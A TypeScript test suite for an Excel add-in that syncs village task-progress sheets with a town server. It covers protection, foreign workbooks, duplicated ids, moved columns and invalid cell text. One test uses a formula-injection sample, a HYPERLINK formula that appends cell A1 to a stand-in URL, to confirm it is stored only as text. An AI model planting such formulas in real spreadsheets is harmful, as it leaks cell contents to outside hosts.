import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PlanId } from '../../shared/town/ids.ts';
import { KEY_ROW } from '../../shared/sheet/image.ts';
import { openDemoTown, type DemoTown } from '../support/demo-town.ts';
import { Filler } from '../support/filler.ts';
import { excelDesk } from '../support/excel-desk.ts';
import { openPane, type Pane } from '../support/pane.ts';
import { publishTasks } from '../support/published-plan.ts';

let town: DemoTown;
let planId: PlanId;
/** Who looks at the server with fresh eyes: another sheet of the same unit. */
let witness: Filler;

const VILLAGE = 'shanmu';

async function filler(login = VILLAGE): Promise<Filler> {
  const desk = await excelDesk();
  return new Filler(desk, openPane({ book: desk.book, client: await town.signIn(login) }));
}

beforeAll(async () => {
  town = await openDemoTown();
  planId = await publishTasks(await town.signIn('yingjiban'), {
    rows: 6,
    responsible: '杉木村、青龙村',
  });
  witness = await (await filler()).open(planId);
});

afterAll(async () => {
  await town[Symbol.asyncDispose]();
});

async function opened(): Promise<Filler> {
  return (await filler()).open(planId);
}

/** What the server holds of a row, seen through the other sheet. */
async function stored(row: number, key: string): Promise<unknown> {
  await witness.sync();
  return witness.at(row, key);
}

describe('a sheet that cannot be a list', () => {
  async function bareSheet(cells: readonly string[]): Promise<Pane> {
    const desk = await excelDesk();
    cells.forEach((text, column) => desk.put(0, column, text));
    return openPane({ book: desk.book, client: await town.signIn('yingjiban') });
  }

  it('is refused in words when it is empty', async () => {
    const { commands } = await bareSheet([]);
    const outcome = await commands.readPlan();
    expect(outcome).toMatchObject({ kind: 'refused', code: 'EMPTY_SHEET' });
    expect(outcome.kind === 'refused' && outcome.sentence).toMatch(/空的.*请/u);
  });

  it('asks where its header is when none is recognised', async () => {
    const { commands } = await bareSheet(['姓名', '电话', '住址']);
    const outcome = await commands.readPlan();
    expect(outcome).toMatchObject({
      kind: 'header-asked',
      activeRow: 1,
      top: { rows: [{ row: 1, texts: ['姓名', '电话', '住址'] }] },
    });
    expect(outcome.kind === 'header-asked' && outcome.sentence).toMatch(/没有找到标题行.*请/u);
  });

  it('sends nothing when the workbook has no list of ours', async () => {
    const { commands, run } = await bareSheet(['重点任务']);
    expect(await commands.syncSheet(run)).toMatchObject({ kind: 'refused', code: 'NOT_BOUND' });
  });

  it('sends nothing when a list was emptied by hand', async () => {
    const sheet = await opened();
    sheet.desk.clearAll();
    expect(await sheet.outcome()).toMatchObject({ kind: 'refused', code: 'EMPTY_SHEET' });
  });
});

describe('a protected sheet', () => {
  it('still sends, writes nothing at all, says so, and catches up once it is unprotected', async () => {
    const sheet = await opened();
    sheet.type(0, { progress: '受保护时填的' });
    sheet.desk.protect();
    const before = sheet.desk.cellsWritten();
    const done = await sheet.sync();
    expect(done.sentence).toBe(
      '成功 1 行。工作表受保护，取回的内容没有写入。请取消工作表保护后再点同步。',
    );
    expect(sheet.desk.cellsWritten()).toBe(before);
    expect(await stored(0, 'progress')).toBe('受保护时填的');

    witness.type(1, { progress: '另一张表填的' });
    await witness.sync();
    sheet.desk.unprotect();
    expect((await sheet.sync()).rowsPulled).toBe(1);
    expect(sheet.at(1, 'progress')).toBe('另一张表填的');
  });
});

describe("another unit's workbook", () => {
  it('sends nothing, writes nothing and names the reason', async () => {
    const sheet = await opened();
    sheet.type(0, { progress: '青龙村的人在杉木村的表里填的' });
    const stranger = openPane({ book: sheet.desk.book, client: await town.signIn('qinglong') });
    const before = sheet.desk.cellsWritten();
    const outcome = await stranger.commands.syncSheet(stranger.run);
    expect(outcome).toMatchObject({ kind: 'refused', code: 'WORKBOOK_FOREIGN_UNIT' });
    expect(outcome.kind === 'refused' && outcome.sentence).toContain('这张表属于别的单位');
    expect(sheet.desk.cellsWritten()).toBe(before);
    expect(sheet.at(0, 'progress')).toBe('青龙村的人在杉木村的表里填的');
    expect(await stored(0, 'progress')).not.toBe('青龙村的人在杉木村的表里填的');
  });
});

describe('ids that people have changed', () => {
  it('withholds every row of a duplicated id, names the addresses, and lets the others go', async () => {
    const sheet = await opened();
    const last = sheet.desk.rows();
    for (let column = 0; column < sheet.desk.columns(); column += 1) {
      sheet.desk.put(last, column, sheet.desk.at(4, column));
    }
    sheet.type(0, { progress: '原行' }).type(6, { progress: '复制的行' }).type(1, { next: '照常' });
    const done = await sheet.sync();
    const doubled = done.problems.filter(({ code }) => code === 'DUPLICATE_ROW_ID');
    expect(doubled.map(({ address }) => address)).toEqual(['A5', 'A11']);
    expect(doubled[0]?.message).toContain('删除重复行');
    expect(done.sentence).toBe('成功 1 行，需修改 2 行。');
    expect([sheet.at(0, 'progress'), sheet.at(6, 'progress')]).toEqual(['原行', '复制的行']);
    expect(await stored(1, 'next')).toBe('照常');

    const [, copy] = doubled;
    if (copy === undefined) throw new Error('the copy was not found');
    expect(await sheet.pane.commands.removeDuplicate(copy)).toMatchObject({ kind: 'edited' });
    expect((await sheet.sync()).sentence).toBe('成功 1 行。');
    expect(await stored(0, 'progress')).toBe('原行');
  });

  it('gives an emptied id back by number and title, with what was typed', async () => {
    const sheet = await opened();
    const id = sheet.at(2, '_id');
    sheet.type(2, { _id: '', problems: '行标识被清空后填的' });
    const done = await sheet.sync();
    expect(done.problems).toEqual([]);
    expect(sheet.at(2, '_id')).toBe(id);
    expect(await stored(2, 'problems')).toBe('行标识被清空后填的');
  });

  it('does not guess when number and title answer to nothing', async () => {
    const sheet = await opened();
    const last = sheet.desk.rows();
    sheet.desk.put(last, sheet.column('title'), '我自己加的任务');
    sheet.desk.put(last, sheet.column('progress'), '做了一些');
    const done = await sheet.sync();
    expect(done.problems).toMatchObject([{ code: 'ROW_WITHOUT_ID', address: `A${last + 1}` }]);
    expect(done.problems[0]?.message).toContain('不是镇里发布的任务，没有上报');
    expect(sheet.desk.at(last, sheet.column('progress'))).toBe('做了一些');
  });

  it('does not create a row for an id that is none of ours', async () => {
    const sheet = await opened();
    sheet.type(3, { _id: '13号', progress: '改坏了标识' });
    const done = await sheet.sync();
    expect(done.problems).toMatchObject([{ code: 'ROW_UNKNOWN' }]);
    expect(done.missing).toHaveLength(1);
    expect(sheet.at(3, 'progress')).toBe('改坏了标识');
  });

  it('offers a deleted row instead of deleting it on the server', async () => {
    const sheet = await opened();
    const title = sheet.at(4, 'title');
    sheet.desk.deleteRow(8);
    const done = await sheet.sync();
    expect(done.missing).toMatchObject([{ rowTitle: `第 5 项 ${String(title)}` }]);
    expect(done.sentence).toContain('表里少了 1 行');
    const { commands, run } = sheet.pane;
    const ids = done.missing.map(({ id }) => id);
    expect(await commands.restoreMissing(ids, run)).toMatchObject({ kind: 'edited' });
    expect(sheet.at(4, 'title')).toBe(title);
    expect((await sheet.sync()).sentence).toBe('没有改动，表和服务器一致。');
  });
});

describe('columns that people have changed', () => {
  it('are known by their key when the heading was renamed', async () => {
    const sheet = await opened();
    sheet.desk.put(3, sheet.column('next'), '下步打算');
    sheet.type(0, { next: '继续排查' });
    await sheet.sync();
    expect(await stored(0, 'next')).toBe('继续排查');
  });

  it('stop the sync with their name when heading and key are gone, and nothing is lost', async () => {
    const sheet = await opened();
    sheet.type(0, { progress: '标题删掉前填的' });
    const column = sheet.column('progress');
    sheet.desk.put(3, column, '');
    sheet.desk.put(KEY_ROW, column, '');
    const before = sheet.desk.cellsWritten();
    const outcome = await sheet.outcome();
    expect(outcome).toMatchObject({ kind: 'refused', code: 'HEADER_MISSING' });
    expect(outcome.kind === 'refused' && outcome.sentence).toContain('“进展情况”');
    expect(sheet.desk.cellsWritten()).toBe(before);
    expect(sheet.desk.at(4, column)).toBe('标题删掉前填的');
  });

  it('may stand in any order', async () => {
    const sheet = await opened();
    const order = Array.from({ length: sheet.desk.columns() }, (_, index) => index).reverse();
    sheet.desk.reorderColumns(order);
    expect((await sheet.sync()).sentence).toBe('没有改动，表和服务器一致。');
    sheet.type(5, { progress: '列倒过来以后填的' });
    await sheet.sync();
    expect(await stored(5, 'progress')).toBe('列倒过来以后填的');
  });

  it('may have an own column between them, which stays untouched', async () => {
    const sheet = await opened();
    sheet.desk.insertColumn(3);
    sheet.desk.put(3, 3, '我的备注');
    sheet.desk.put(4, 3, '找老李要照片');
    sheet.type(0, { next: '自留列插入后填的' });
    expect((await sheet.sync()).sentence).toBe('成功 1 行。');
    expect([sheet.desk.at(3, 3), sheet.desk.at(4, 3)]).toEqual(['我的备注', '找老李要照片']);
    expect(await stored(0, 'next')).toBe('自留列插入后填的');
  });

  it('may be sorted by any column without a change', async () => {
    const sheet = await opened();
    sheet.desk.reorderRows(4, [9, 4, 8, 5, 7, 6]);
    expect((await sheet.sync()).sentence).toBe('没有改动，表和服务器一致。');
  });
});

describe('texts that cannot be stored', () => {
  it.each([
    ['40,000 characters', '长'.repeat(40_000), 'TOO_LONG', /最多/u],
    ['a NUL', '前\u0000后', 'INVALID_TEXT', /特殊字符/u],
    ['an error value', '#REF!', 'CELL_ERROR', /#REF!/u],
  ])(
    '%s stay in their cell with a reason, and the rest of the row goes',
    async (...[, text, code, words]) => {
      const sheet = await opened();
      const next = `与 ${code} 同一行`;
      sheet.type(1, { progress: text, next });
      const done = await sheet.sync();
      expect(done.problems).toMatchObject([{ code, column: '进展情况', address: 'J6' }]);
      expect(done.problems[0]?.message).toMatch(words);
      expect(done.fieldsPending).toBe(1);
      expect(sheet.at(1, 'progress')).toBe(text);
      expect(sheet.at(1, '_result')).toContain('【进展情况】');
      expect(await stored(1, 'next')).toBe(next);
    },
  );

  it('=HYPERLINK(…) as a text goes and comes back as the same text', async () => {
    const sheet = await opened();
    const text = '=HYPERLINK("http://x/?"&A1,"点我")';
    sheet.type(2, { progress: text });
    await sheet.sync();
    expect(await stored(2, 'progress')).toBe(text);
  });

  it('a formula is read by its result and never overwritten', async () => {
    const sheet = await opened();
    sheet.desk.putFormula(8, sheet.column('next'), '由公式算出');
    const done = await sheet.sync();
    expect(done.problems).toMatchObject([{ code: 'FORMULA_READ', address: 'L9' }]);
    expect(await stored(4, 'next')).toBe('由公式算出');
    witness.type(4, { next: '另一张表改的' });
    await witness.sync();
    const kept = await sheet.sync();
    expect(kept.problems).toMatchObject([{ code: 'FORMULA_KEPT' }]);
    expect(sheet.at(4, 'next')).toBe('由公式算出');
  });

  it("an edit in the town's column is not sent, and its text can be had back", async () => {
    const sheet = await opened();
    const title = sheet.at(3, 'title');
    sheet.type(3, { title: '我改的任务名' });
    const done = await sheet.sync();
    expect(done.problems).toMatchObject([{ code: 'READ_ONLY', column: '重点任务' }]);
    expect(sheet.at(3, 'title')).toBe('我改的任务名');
    const [problem] = done.problems;
    if (problem === undefined) throw new Error('the edit was not seen');
    await sheet.pane.commands.restoreOriginal(problem, sheet.pane.run);
    expect(sheet.at(3, 'title')).toBe(title);
    expect((await sheet.sync()).problems).toEqual([]);
  });
});
